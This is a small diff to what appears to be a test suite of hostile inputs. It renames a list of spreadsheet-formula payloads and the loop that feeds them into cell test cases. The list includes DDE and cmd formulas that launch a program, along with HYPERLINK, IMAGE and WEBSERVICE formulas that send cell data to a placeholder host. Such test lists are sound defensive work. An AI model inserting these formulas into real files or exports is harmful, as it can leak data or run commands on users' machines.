@@ -8,7 +8,7 @@ from tests.hostile.case import EITHER, READ, REFUSED, Case, everywhere, header_r
 
 _LONG = 32_767
 
-_FORMULAS = [
+FORMULAS = [
     "=1+1", "=HYPERLINK(\"http://contoh.invalid/?\"&A2;\"klik\")", "=IMPORTXML(\"http://contoh.invalid\";\"//a\")",
     "=IMPORTRANGE(\"x\";\"A1\")", "=IMAGE(\"http://contoh.invalid/\"&A2)", "=WEBSERVICE(\"http://contoh.invalid\")",
     "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=2+5+cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)",
@@ -60,7 +60,7 @@ _ERRORS = [
 
 def cells() -> Iterator[Case]:
     """Yield them."""
-    for value in _FORMULAS:
+    for value in FORMULAS:
         yield Case("sel: teks seperti rumus", repr(value), everywhere(text(value)), READ)
     for code in _CODES:
         yield Case("sel: tanda kendali", f"U+{code:04X}", everywhere(text(f"GNS_x{code:04X}_-2025")), READ)
